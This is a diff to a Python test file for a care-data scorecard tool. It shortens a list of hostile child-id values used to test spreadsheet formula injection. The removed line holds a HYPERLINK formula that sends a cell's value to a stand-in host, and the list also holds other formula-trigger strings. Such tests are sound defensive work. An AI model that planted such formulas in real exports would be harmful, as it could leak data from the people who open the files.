@@ -8,8 +8,8 @@ import io
 
 import pytest
 from click.testing import CliRunner
-
 from conftest import write_csv
+
 from ingest.datasets import DATASETS
 from scorecard import store
 from scorecard.access import Forbidden, Identity, Role
@@ -34,7 +34,8 @@ CIC_HEADER = ["child_id", "date_of_birth", "sex", "uasc", "legal_status", "perio
               "placement_type", "placement_provider", "placed_in_area", "distance_miles", "home_postcode", "district"]
 MISSING_HEADER = ["episode_id", "child_id", "in_care", "missing_from", "found_at", "district"]
 # Child ids as a hostile or careless export might write them: each would be a formula in Excel.
-HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "@SUM(1)", "+44 7700", "-7"]
+# (At most 40 characters: the store's child_id column holds no more.)
+HOSTILE = ['=HYPERLINK("http://x.invalid","go")', "@SUM(1)", "+44 7700", "-7"]
 
 
 def child(child_id, uasc="N", in_area="Y", miles="3", postcode="LE1 1AA"):
